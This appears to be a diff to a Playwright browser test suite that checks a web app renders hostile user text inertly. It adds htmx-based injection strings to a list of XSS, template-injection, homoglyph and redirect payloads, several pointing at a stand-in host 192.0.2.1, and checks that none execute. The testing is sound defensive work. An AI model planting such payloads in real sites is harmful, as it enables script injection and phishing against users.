@@ -15,7 +15,7 @@ from playwright.sync_api import Page, expect
 
 from tests.conftest import NOW, TOP, record
 from tests.golden.filled import FULL_ID
-from tests.integration.browser.conftest import TOKEN
+from tests.integration.browser.conftest import enter
 from tests.pages import kept, page_of
 
 pytestmark = pytest.mark.browser
@@ -66,16 +66,6 @@ def test_every_page_is_accessible_fits_and_asks_nobody_else(
     assert faults_of(page) == []
     assert page.evaluate("document.documentElement.scrollWidth") <= width
     watched.faults[:] = [fault for fault in watched.faults if not is_refused(fault)]
-
-
-def enter(look: Look, url: str, path: str, **options: Any) -> Any:
-    """A watched page behind the login."""
-    watched = look(url, **options)
-    page = watched.goto(path)
-    page.get_by_label("Token").fill(TOKEN)
-    page.get_by_role("button", name="Log in").click()
-    page.wait_for_url(f"{url}{path}")
-    return watched
 
 
 @pytest.mark.parametrize("width", [390, 1280])
@@ -267,6 +257,8 @@ HOSTILE = (
     "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<base href=http://192.0.2.1/>", "\u202eevil\u2066",
     "<form action=http://192.0.2.1/><button>", "<link rel=stylesheet href=http://192.0.2.1/>", "a\x00b\x1b[2J",
     "https://аррӏе.com/login", "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>", "{{7*7}}",
+    "<hx-partial hx-target=body><script>window.pwned=1</script></hx-partial>", "</head><body hx-on:load=pwned=1>",
+    "<p data-hx-get=http://192.0.2.1/ data-hx-trigger=load hx-swap-oob=outerHTML:body>",
 )  # fmt: skip
 
 
@@ -286,6 +278,12 @@ def test_hostile_text_runs_nothing_asks_nobody_and_deceives_nobody(look: Look, t
             page = watched.goto(path)
             assert page.evaluate("window.pwned") is None
             assert "evil" not in page.evaluate("getSelection().toString()")
+        page = watched.goto("/?q=needle")
+        for at in range(len(HOSTILE)):  # results that are replaced in their place
+            page.locator(".facets li a:not(.not)").nth(at % 8).click()
+            page.get_by_role("list", name="Filters").get_by_role("link").first.click()
+            expect(page.locator(".chips")).to_have_count(0)
+            assert page.evaluate("window.pwned") is None
         watched.goto("/c/c7")
         assert "\\u202eevil" in watched.page.locator(".said").nth(1).inner_text()
         watched.goto("/c/c11")
